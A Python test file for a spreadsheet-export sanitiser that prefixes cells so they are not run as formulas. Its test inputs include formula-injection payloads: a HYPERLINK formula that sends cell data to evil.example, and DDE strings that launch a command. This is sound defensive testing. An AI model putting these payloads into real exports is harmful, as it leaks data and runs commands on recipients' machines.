"""dastan.exports: the one rule that keeps exported cells from running as spreadsheet formulas."""

from __future__ import annotations

from datetime import date
from decimal import Decimal

import pytest

from dastan.exports import neutralise_cell, neutralise_row, restore_cell

ATTACKS = ['=HYPERLINK("http://evil.example/?"&A1, "Open")', "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
           "@SUM(1+9)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


@pytest.mark.parametrize("attack", ATTACKS)
def test_text_that_a_spreadsheet_would_run_is_marked_as_text(attack: str) -> None:
    assert neutralise_cell(attack) == "'" + attack
    assert restore_cell(str(neutralise_cell(attack))) == attack


def test_ordinary_text_and_typed_values_are_left_as_they_are() -> None:
    for value in ("Qazaq Stream", "KZ; UZ", "2027-03-01", "theatrical+90", "", "'quoted by its author"):
        assert neutralise_cell(value) == value and restore_cell(value) == value
    # A typed export keeps its numbers numbers: -12.5 is an amount, not a formula.
    for typed in (-12, -12.5, Decimal("-3.20"), date(2027, 3, 1), None):
        assert neutralise_cell(typed) == typed


def test_a_row_is_neutralised_cell_by_cell() -> None:
    assert neutralise_row({"Licensee": "=1+1", "ViewCap": -1, "Title": "steppe"}) == {
        "Licensee": "'=1+1", "ViewCap": -1, "Title": "steppe"}
